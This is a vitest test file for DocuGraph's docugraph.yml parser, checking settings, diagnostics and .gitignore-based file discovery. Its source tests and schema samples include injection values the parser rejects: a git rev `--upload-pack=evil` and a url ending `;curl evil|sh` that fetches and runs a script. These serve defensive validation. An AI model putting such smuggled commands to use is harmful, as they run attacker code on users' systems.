/**
 * META-01 §8 (`docugraph.yml`) and §1 (`.gitignore`): configuration parsing with lines, and
 * discovery that honours nested `.gitignore` files, `include` and `exclude`.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseConfig } from '../../../src/core/parse/config.js';
import { DEFAULT_CONFIG } from '../../../src/core/shared/config-types.js';
import { loadWorkspace } from '../../../src/core/index.js';
import { createWorkspaceIndex } from '../../../src/core/live/workspace-index.js';
import { doc, testdir } from '../../helpers/testdir.js';
import { expectSchemaAgrees } from '../../helpers/config-schema.js';

describe('docugraph.yml', () => {
  it('an empty file, or none, is the defaults', () => {
    expect(parseConfig('')).toEqual({ config: DEFAULT_CONFIG, diagnostics: [] });
    expect(parseConfig('# only a comment\n')).toEqual({ config: DEFAULT_CONFIG, diagnostics: [] });
  });

  it('every key, as the spec writes it (META-01 rev 3 §8)', () => {
    const { config, diagnostics } = parseConfig(
      [
        'include: ["docs/**/*.md"]',
        'exclude: [docs/old/]',
        'gitignore: false',
        'requireId: true',
        'fields:',
        '  id: key',
        '  dependsOn: [depends_on, dependencies]',
        '  separator: ","',
        'links:',
        '  check: true',
        '  style: site',
        '  siteRoot: "./content/"',
        '  ignore: ["/api/**", "*.pdf", "../outside/**"]',
        '  root: workspace',
        '  repositoryUrls: [https://github.com/acme/docs.git]',
        '  branches: [trunk]',
        '',
      ].join('\n'),
    );
    expect(diagnostics).toEqual([]);
    expect(config).toEqual({
      include: ['docs/**/*.md'],
      exclude: ['docs/old/'],
      gitignore: false,
      requireId: true,
      fields: { id: 'key', title: 'title', type: 'type', status: 'status', dependsOn: ['depends_on', 'dependencies'], separator: ',' },
      links: { check: true, style: 'site', siteRoot: 'content', ignore: ['/api/**', '*.pdf', '../outside/**'], root: 'workspace', repositoryUrls: ['https://github.com/acme/docs'], branches: ['trunk'] },
      relations: DEFAULT_CONFIG.relations,
      status: DEFAULT_CONFIG.status,
      trace: DEFAULT_CONFIG.trace,
      coverage: DEFAULT_CONFIG.coverage,
      kits: [],
      kitRoots: [],
      sources: [],
      writes: false,
      cache: null,
      context: DEFAULT_CONFIG.context,
    });
  });

  it('sources (issue 57): other repositories by name, with path, rev and url; a rev that git would take as an option, a bad name or no path says what to write', () => {
    const { config, diagnostics } = parseConfig('sources:\n  platform:\n    path: ../platform-specs/\n    rev: v3.2\n  billing: ../billing\n');
    expect(diagnostics).toEqual([]);
    expect(config.sources).toEqual([
      { name: 'billing', path: '../billing', rev: null, url: null, line: 5 },
      { name: 'platform', path: '../platform-specs', rev: 'v3.2', url: null, line: 2 },
    ]);
    const messages = (text: string) => parseConfig(text).diagnostics.map((d) => `${d.line}: ${d.message}`);
    expect(messages('sources:\n  platform:\n    path: ../p\n    rev: --upload-pack=evil\n')).toEqual([
      '3: `sources.platform.rev` `--upload-pack=evil` cannot be read: it starts with `-`, which git would take as an option; give a branch, a tag or a commit, e.g. `rev: v3.2`',
    ]);
    expect(messages('sources:\n  platform:\n    rev: main\n')[0]).toMatch(/^3: the source `platform` needs `path`/);
    expect(messages('sources:\n  "my source": ../p\n')[0]).toMatch(/^2: the source name `my source` cannot start an id/);
    expect(messages('sources:\n  platform:\n    path: ../p\n    branch: main\n')[0]).toMatch(/^4: unknown setting `sources.platform.branch`/);
    expect(messages('sources: [../p]\n')[0]).toMatch(/^1: `sources` must be a mapping of names/);
    // The url is suggested in a command to copy (SOURCE_MISSING): nothing a shell acts on.
    expect(messages('sources:\n  platform:\n    path: ../p\n    url: "https://x.org/p;curl evil|sh"\n')[0]).toMatch(/^3: `sources.platform.url` must be where the repository is cloned from/);
    expect(messages('kits: [kiro]\nroots: [{ path: packages/api, name: platform }]\nsources:\n  platform: ../p\n')[0]).toMatch(/the kit root and the source both named `platform`/);
  });

  it('context (CONTEXT §1): when and how bundles cut large documents; a bad value says what to write', () => {
    expect(DEFAULT_CONFIG.context).toEqual({ sections: 'auto', wholeUnder: 1500, matchFloor: 0.5, documentShare: 0.25 });
    const { config, diagnostics } = parseConfig('context:\n  sections: always\n  wholeUnder: 3000\n  matchFloor: 0.6\n  documentShare: 0.4\n');
    expect(diagnostics).toEqual([]);
    expect(config.context).toEqual({ sections: 'always', wholeUnder: 3000, matchFloor: 0.6, documentShare: 0.4 });
    expect(parseConfig('context: { sections: never }\n').config.context).toEqual({ ...DEFAULT_CONFIG.context, sections: 'never' });
    const messages = (text: string) => parseConfig(text).diagnostics.map((d) => `${d.line}: ${d.message}`);
    expect(messages('context:\n  sections: sometimes\n')).toEqual(['2: `context.sections` must be `auto` or `always` or `never`']);
    expect(messages('context:\n  wholeUnder: 1.5\n')).toEqual(['2: `context.wholeUnder` must be an integer from 0 to 1000000, e.g. `wholeUnder: 3000`']);
    expect(messages('context:\n  matchFloor: 2\n')).toEqual(['2: `context.matchFloor` must be a number from 0 to 1, e.g. `matchFloor: 0.6`']);
    expect(messages('context:\n  documentShare: "a lot"\n')).toEqual(['2: `context.documentShare` must be a number from 0 to 1, e.g. `documentShare: 0.4`']);
    expect(messages('context:\n  wholeunder: 10\n')[0]).toMatch(/^2: unknown setting `context.wholeunder`; did you mean `context.wholeUnder`\?/);
    expect(messages('context: always\n')).toEqual(['1: `context` must be a mapping, e.g. `context: { sections: always }`']);
  });

  it('cache (issue 38): false, or one dot-folder directly in the workspace; anything else says what to write', () => {
    expect(parseConfig('cache: false\n').config.cache).toBe(false);
    expect(parseConfig('cache: .docugraph\n').config.cache).toBe('.docugraph');
    expect(parseConfig('cache: .docugraph/\n').config.cache).toBe('.docugraph');
    for (const value of ['true', 'docugraph', '.a/b', '../x', '..', '.git', '/tmp/x', '"."']) {
      const { config, diagnostics } = parseConfig(`cache: ${value}\n`);
      expect(config, value).toBe(DEFAULT_CONFIG);
      expect(diagnostics.map((d) => d.message), value).toEqual(['`cache` must be `false` or a dot-folder directly in the workspace, e.g. `cache: .docugraph` (by default the index lives in your cache folder)']);
    }
  });

  it('kits (KITS §1): each kit once, in a fixed order, with the coverage the kits bring until `coverage:` says otherwise', () => {
    const both = parseConfig('kits: [openspec, kiro, speckit, kiro]\n');
    expect(both.diagnostics).toEqual([]);
    expect(both.config.kits).toEqual(['kiro', 'speckit', 'openspec']);
    // Revision 2 (KITS §7): judged feature by feature; Spec Kit's stories and success criteria too.
    expect(both.config.coverage).toEqual([
      { type: 'acceptance-criterion', relations: ['implements'], byFeature: true },
      { type: 'functional-requirement', relations: ['implements'], byFeature: true },
      { type: 'success-criterion', relations: ['implements'], byFeature: true },
      { type: 'user-story', relations: ['implements'], byFeature: true },
    ]);
    expect(parseConfig('kits: openspec\n').config).toMatchObject({ kits: ['openspec'], coverage: [] });
    // A `coverage:` of the workspace's own replaces the kits' (an empty one turns it off).
    expect(parseConfig('kits: [kiro]\ncoverage: { task: verifies }\n').config.coverage).toEqual([{ type: 'task', relations: ['verifies'] }]);
    expect(parseConfig('kits: [kiro]\ncoverage: {}\n').config.coverage).toEqual([]);
    const wrong = parseConfig('kits: [kiro, cursor]\n');
    expect(wrong.config).toBe(DEFAULT_CONFIG);
    expect(wrong.diagnostics.map((d) => [d.code, d.line, d.message])).toEqual([
      ['CONFIG_INVALID', 1, '`kits` names `cursor`, which is not a kit DocuGraph reads; the kits are `kiro`, `speckit`, `openspec`'],
    ]);
  });

  it('writes and status.write (KITS §6): the words written must mean open work', () => {
    expect(parseConfig('writes: true\nstatus:\n  write: { in_progress: Doing }\n').config).toMatchObject({ writes: true, status: { write: { in_progress: 'Doing', todo: 'todo' } } });
    const clash = parseConfig('status:\n  done: [done, shipped]\n  write: { todo: Shipped }\n');
    expect(clash.config).toBe(DEFAULT_CONFIG);
    expect(clash.diagnostics.map((d) => [d.line, d.message])).toEqual([[3, '`status.write.todo` is `Shipped`, which `status.done` lists; it must be a word for open work, such as `todo`']]);
    expect(parseConfig('status:\n  write: { in_progress: cancelled }\n').diagnostics[0]!.message).toContain('which `status.dropped` lists');
  });

  it('revision 3 settings: their wrong values say what to write', () => {
    const cases: [string, string][] = [
      ['links:\n  check: no\n', '`links.check` must be `true` or `false`'],
      ['links:\n  style: hugo\n', '`links.style` must be `github` or `site`'],
      ['links:\n  siteRoot: ../site\n', '`links.siteRoot` must be a folder inside the repository'],
      ['links:\n  siteRoot: /content\n', '`links.siteRoot` must be a folder inside the repository'],
      ['links:\n  siteRoot: ""\n', '`links.siteRoot` must be a non-empty string'],
      ['links:\n  ignore: "*.pdf"\n', '`links.ignore` must be a list of non-empty strings'],
      ['fields:\n  separator: 5\n', '`fields.separator` must be `null` or the characters between two ids'],
      ['fields:\n  separator: "  "\n', '`fields.separator` must be `null` or the characters between two ids'],
      // `done` writes the status key: never over an id, a title or a type (issue 53).
      ['fields:\n  status: id\n', '`fields.status` and `fields.id` both name the frontmatter key `id`; each field needs its own key'],
      ['fields:\n  status: title\n', '`fields.status` and `fields.title` both name the frontmatter key `title`'],
      ['fields:\n  dependsOn: [status]\n', '`fields.dependsOn` and `fields.status` both name the frontmatter key `status`'],
    ];
    for (const [text, message] of cases) {
      const { config, diagnostics } = parseConfig(text);
      expect(config, text).toEqual(DEFAULT_CONFIG);
      expect(diagnostics.map((d) => [d.code, d.line]), text).toEqual([['CONFIG_INVALID', 2]]);
      expect(diagnostics[0]!.message, text).toContain(message);
    }
    expect(parseConfig('fields:\n  separator: null\nlinks:\n  siteRoot: .\n').config).toEqual(DEFAULT_CONFIG);
  });

  it('unknown keys and wrong types are CONFIG_INVALID on their lines, all of them', () => {
    const { config, diagnostics } = parseConfig('include: docs\ngitignore: yes\nfields:\n  depends: x\nlinks:\n  root: repo\nextra: 1\n');
    expect(config).toBe(DEFAULT_CONFIG);
    expect(diagnostics.map((d) => [d.code, d.path, d.line])).toEqual([
      ['CONFIG_INVALID', 'docugraph.yml', 1],
      ['CONFIG_INVALID', 'docugraph.yml', 2],
      ['CONFIG_INVALID', 'docugraph.yml', 4],
      ['CONFIG_INVALID', 'docugraph.yml', 6],
      ['CONFIG_INVALID', 'docugraph.yml', 7],
    ]);
    expect(diagnostics[0]!.message).toContain('`include` must be a list');
    expect(diagnostics[2]!.message).toContain('unknown setting `fields.depends`');
    expect(diagnostics[4]!.message).toContain('unknown setting `extra`');
  });

  it('a misspelled setting: did you mean the close one, then the list; none when nothing is close (issue 37)', () => {
    const message = (text: string) => parseConfig(text).diagnostics.map((d) => d.message);
    expect(message('linkz:\n  check: false\n')).toEqual([
      'unknown setting `linkz`; did you mean `links`? The settings are `include`, `exclude`, `gitignore`, `requireId`, `fields`, `links`, `relations`, `status`, `trace`, `coverage`, `kits`, `roots`, `sources`, `writes`, `cache`, `context`',
    ]);
    expect(message('links:\n  chekc: false\n')[0]).toMatch(/^unknown setting `links\.chekc`; did you mean `links\.check`\? The settings are `links\.check`, /);
    expect(message('requireid: true\n')[0]).toContain('did you mean `requireId`?');
    expect(message('extra: 1\n')[0]).toMatch(/^unknown setting `extra`; the settings are /);
  });

  it('include and exclude: a pattern that climbs out with `..`, or more than 1,000 of them, say what to do; long lists are bounded', () => {
    const climbing = parseConfig('include:\n  - "**/*.md"\n  - "../**/*.md"\n').diagnostics;
    expect(climbing).toMatchObject([{ code: 'CONFIG_INVALID', line: 3 }]);
    expect(climbing[0]!.message).toContain('`include` pattern `../**/*.md` climbs out of the workspace');
    const many = parseConfig(`exclude: [${Array.from({ length: 1001 }, (_, i) => `p${i}/`).join(', ')}]\n`).diagnostics;
    expect(many[0]!.message).toBe('`exclude` has 1001 entries; at most 1000 are read: combine them into globs, or list them in .docugraphignore');
    const urls = parseConfig(`links:\n  repositoryUrls: [${Array.from({ length: 101 }, (_, i) => `https://github.com/o/r${i}`).join(', ')}]\n`).diagnostics;
    expect(urls[0]!.message).toBe('`links.repositoryUrls` has 101 entries; at most 100 are read');
  });

  it('nested too deeply for the YAML library: one finding that says so, not a stack overflow', () => {
    for (const text of [`include: ${'['.repeat(5000)}${']'.repeat(5000)}\n`, `include:\n  ${'- '.repeat(200_000)}x\n`]) {
      const { diagnostics } = parseConfig(text);
      expect(diagnostics).toHaveLength(1);
      expect(diagnostics[0]!.message).toContain('is nested too deeply to be read');
    }
  });

  it('YAML that does not parse, or is not a mapping', () => {
    expect(parseConfig('include: [a\n').diagnostics[0]).toMatchObject({ code: 'CONFIG_INVALID', line: 1 });
    expect(parseConfig('- a\n- b\n').diagnostics[0]!.message).toContain('must be a mapping');
  });

  it('a workspace with an invalid file reports it and uses the defaults', () => {
    const root = testdir({ 'docugraph.yml': 'requireId: maybe\n', 'a.md': '---\ntitle: page\n---\n' });
    const found = loadWorkspace(root).diagnostics.map((d) => [d.code, d.path, d.line]);
    expect(found).toContainEqual(['CONFIG_INVALID', 'docugraph.yml', 1]);
  });

  it('a live index keeps the last valid configuration while the file is invalid', () => {
    const root = testdir({ 'docugraph.yml': 'exclude: [old/]\n', 'old/a.md': doc({ id: 'OLD', title: 'old' }), 'b.md': doc({ id: 'B', title: 'b' }) });
    const index = createWorkspaceIndex(root);
    expect(index.refresh('all').ids).toEqual(['B']);
    writeFileSync(join(root, 'docugraph.yml'), 'exclude: [old/\n');
    const broken = index.refresh(['docugraph.yml']);
    expect(broken.ids).toEqual(['B']);
    expect(broken.diagnostics.map((d) => d.code)).toEqual(['CONFIG_INVALID']);
    writeFileSync(join(root, 'docugraph.yml'), 'exclude: []\n');
    const fixed = index.refresh(['docugraph.yml']);
    expect(fixed.ids).toEqual(['B', 'OLD']);
    expect(fixed.diagnostics).toEqual([]);
  });
});

describe('.gitignore, include and exclude', () => {
  it('nested .gitignore files with git semantics: deeper rules win, ! re-includes, ignored directories are not entered', () => {
    const root = testdir({
      '.gitignore': 'build/\n*.tmp.md\n',
      'build/stale.md': doc({ id: 'SPEC-1', title: 'stale copy' }),
      'docs/spec.md': doc({ id: 'SPEC-1', title: 'the real one' }),
      'docs/a.tmp.md': doc({ id: 'TMP', title: 'tmp' }),
      'docs/.gitignore': '!keep.tmp.md\ngenerated/\n',
      'docs/keep.tmp.md': doc({ id: 'KEEP', title: 'keep' }),
      'docs/generated/x.md': doc({ id: 'GEN', title: 'gen' }),
    });
    const ws = loadWorkspace(root);
    expect(ws.files).toEqual(['docs/keep.tmp.md', 'docs/spec.md']);
    expect(ws.nodes.get('SPEC-1')?.title).toBe('the real one');
    expect(ws.diagnostics).toEqual([]);
  });

  it('gitignore: false turns it off', () => {
    const root = testdir({ 'docugraph.yml': 'gitignore: false\n', '.gitignore': 'build/\n', 'build/a.md': '# a\n' });
    expect(loadWorkspace(root).files).toEqual(['build/a.md']);
  });

  it('include narrows, exclude skips', () => {
    const root = testdir({
      'docugraph.yml': 'include: ["docs/**"]\nexclude: ["docs/archive/"]\n',
      'README.md': '# readme\n',
      'docs/a.md': '# a\n',
      'docs/archive/old.md': '# old\n',
    });
    expect(loadWorkspace(root).files).toEqual(['docs/a.md']);
  });

  it('a changed .gitignore is followed by a live index', () => {
    const root = testdir({ 'a.md': '# a\n', 'build/b.md': '# b\n' });
    const index = createWorkspaceIndex(root);
    expect(index.refresh('all').files).toEqual(['a.md', 'build/b.md']);
    writeFileSync(join(root, '.gitignore'), 'build/\n');
    expect(index.refresh(['.gitignore']).files).toEqual(['a.md']);
    writeFileSync(join(root, 'build/.gitignore'), '');
    writeFileSync(join(root, '.gitignore'), '');
    expect(index.refresh(['.gitignore']).files).toEqual(['a.md', 'build/b.md']);
  });
});

describe('the shipped JSON Schema agrees with the checks', () => {
  it('valid and invalid samples get the same verdict from both', () => {
    const samples = [
      'include: ["**/*.md"]\n',
      'exclude: [a/, b/]\ngitignore: false\nrequireId: true\n',
      'fields:\n  id: key\n  dependsOn: dependencies\n',
      'fields:\n  dependsOn: [depends_on, dependencies]\n',
      'links:\n  root: workspace\n  repositoryUrls: auto\n  branches: [main]\n',
      'links:\n  repositoryUrls: [https://github.com/acme/docs]\n',
      'include: docs\n',
      'gitignore: yes\n',
      'fields:\n  depends: x\n',
      'links:\n  root: repo\n',
      'links:\n  repositoryUrls: [ftp://x]\n',
      'extra: 1\n',
      'fields:\n  id: ""\n',
      'exclude: [1]\n',
      'include: ["../**/*.md"]\n',
      'exclude: [docs/.., "a/../b"]\n',
      'include: ["..notes/*.md", "a..b/*.md", "x/.../y"]\n',
      `exclude: [${Array.from({ length: 1000 }, (_, i) => `p${i}/`).join(', ')}]\n`,
      `exclude: [${Array.from({ length: 1001 }, (_, i) => `p${i}/`).join(', ')}]\n`,
      `links:\n  branches: [${Array.from({ length: 101 }, (_, i) => `b${i}`).join(', ')}]\n`,
      `links:\n  repositoryUrls: [${Array.from({ length: 101 }, (_, i) => `https://github.com/o/r${i}`).join(', ')}]\n`,
      `fields:\n  dependsOn: [${Array.from({ length: 100 }, (_, i) => `k${i}`).join(', ')}]\n`,
      'fields:\n  separator: ","\n',
      'fields:\n  separator: null\n',
      'fields:\n  separator: 5\n',
      'fields:\n  separator: "  "\n',
      'links:\n  check: false\n  style: site\n  siteRoot: content\n  ignore: ["/api/**"]\n',
      'links:\n  style: hugo\n',
      'links:\n  siteRoot: ../site\n',
      'links:\n  siteRoot: /content\n',
      'links:\n  check: maybe\n',
      'links:\n  ignore: "*.pdf"\n',
      'kits: [kiro, speckit, openspec]\n',
      'kits: kiro\n',
      'kits: [kiro, cursor]\n',
      'kits: [1]\n',
      'kits: {kiro: true}\n',
      `kits: [${Array.from({ length: 13 }, () => 'kiro').join(', ')}]\n`,
      'writes: true\n',
      'writes: yes\n',
      'status:\n  write: { in_progress: doing, todo: open }\n',
      'status:\n  write: { todo: "" }\n',
      'status:\n  write: { started: doing }\n',
      'status:\n  write: doing\n',
      'sources:\n  platform: ../platform\n',
      'sources:\n  platform:\n    path: ../platform\n    rev: v3.2\n    url: https://example.com/p.git\n',
      'sources:\n  platform:\n    path: ../platform\n    rev: -x\n',
      'sources:\n  platform:\n    path: ../platform\n    rev: a..b\n',
      'sources:\n  platform:\n    rev: main\n',
      'sources:\n  platform:\n    path: ../p\n    branch: main\n',
      'sources:\n  "a b": ../p\n',
      'sources: [../p]\n',
      'sources:\n  platform: ""\n',
      'sources:\n  platform:\n    path: ../p\n    url: "https://x.org/p;curl evil|sh"\n',
      'sources:\n  platform:\n    path: ../p\n    url: git@github.com:acme/platform.git\n',
    ];
    expectSchemaAgrees(samples);
  });
});

describe('field keys from docugraph.yml reach the documents', () => {
  it('Backlog.md: dependencies mapped as a dependency key gives edges and no warning', () => {
    const root = testdir({
      'docugraph.yml': 'fields:\n  dependsOn: [depends_on, dependencies]\n',
      'task-1.md': '---\nid: task-1\ntitle: One\ndependencies: [task-2]\n---\n',
      'task-2.md': '---\nid: task-2\ntitle: Two\n---\n',
    });
    const ws = loadWorkspace(root);
    expect(ws.edgeCount).toBe(1);
    expect(ws.diagnostics).toEqual([]);
    const unmapped = testdir({ 'task-1.md': '---\nid: task-1\ntitle: One\ndependencies: [task-2]\n---\n', 'task-2.md': '---\nid: task-2\ntitle: Two\n---\n' });
    expect(loadWorkspace(unmapped).diagnostics.map((d) => d.code)).toEqual(['FIELD_MISSPELLED']);
  });
});
